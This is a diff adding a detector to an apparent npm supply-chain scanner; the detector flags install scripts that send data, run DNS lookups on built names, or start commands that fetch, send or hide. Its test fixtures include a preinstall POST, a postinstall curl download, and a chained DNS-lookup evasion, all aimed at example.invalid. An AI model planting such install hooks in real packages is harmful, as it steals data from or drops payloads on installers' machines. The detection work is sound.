@@ -1,0 +1,78 @@
+import { type Deed, deedsOf } from "../behaviour/trace.ts";
+import type { Detector } from "../detector.ts";
+import { sendingDeeds } from "./_near.ts";
+import { scriptsWith } from "./_npm.ts";
+import { sight } from "./_sight.ts";
+
+const WORDS = ["child_process", "http", "fetch(", "axios", "dns", "net", "execa"] as const;
+
+export const installScriptActs: Detector = {
+  id: "install-script-acts",
+  title: "A file that an install script runs sends something or hides a command",
+  severity: "medium",
+  ecosystems: ["npm"],
+  points: 3.8,
+  class: "threat",
+  group: "import-acts",
+  why: `The file behind a \`preinstall\`, \`install\` or \`postinstall\` script sends a request with a body, asks a name server for a name that it
+puts together, or starts a command that fetches, sends or hides.
+
+Fetching a native program is what honest install scripts do, with a plain request; so is starting a compiler. Both pass. Install
+statistics are a request with a body: this alone does not withhold a release.`,
+  literals: WORDS,
+  *detect(tree) {
+    for (const file of scriptsWith(tree, WORDS)) {
+      if (file.phase !== "install") continue;
+      const [sends] = sendingDeeds(file);
+      if (sends !== undefined)
+        yield sight(file, sends.offset, `${sends.what} sends ${sends.text.slice(0, 120)} at install`, { share: 0.9 });
+      const command = deedsOf(file, "start").find(isOdd);
+      if (command !== undefined)
+        yield sight(file, command.offset, `${command.what} starts ${command.text.slice(0, 160)} at install`);
+    }
+  },
+  examples: {
+    matches: [
+      {
+        ecosystem: "npm",
+        files: {
+          "package.json": `{"scripts":{"preinstall":"node a.js"}}`,
+          "a.js":
+            "const https = require('https');\nhttps.request({ host: 'example.invalid', method: 'POST' }).end(x);\n",
+        },
+      },
+      {
+        ecosystem: "npm",
+        files: {
+          "package.json": `{"scripts":{"postinstall":"node scripts/a"}}`,
+          "scripts/a.js": "require('child_process').exec('curl -s example.invalid/x -o /tmp/x');\n",
+        },
+      },
+    ],
+    passes: [
+      {
+        ecosystem: "npm",
+        files: {
+          "package.json": `{"scripts":{"install":"node a.js"}}`,
+          "a.js":
+            "const https = require('https'), cp = require('child_process');\nhttps.get(url, save);\ncp.execSync('node-gyp rebuild');\n",
+        },
+      },
+      { ecosystem: "npm", files: { "a.js": "const https = require('https');\nhttps.request({ method: 'POST' });\n" } },
+    ],
+    evasions: [
+      {
+        ecosystem: "npm",
+        files: {
+          "package.json": `{"scripts":{"preinstall":"npm run x","x":"node ./a"}}`,
+          "a.js": "require('./b');\n",
+          "b.js": "require('dns').lookup(`${name}.example.invalid`, () => {});\n",
+        },
+      },
+    ],
+  },
+};
+
+function isOdd({ command }: Deed): boolean {
+  return command !== undefined && (command.fetches || command.sends || command.hides);
+}
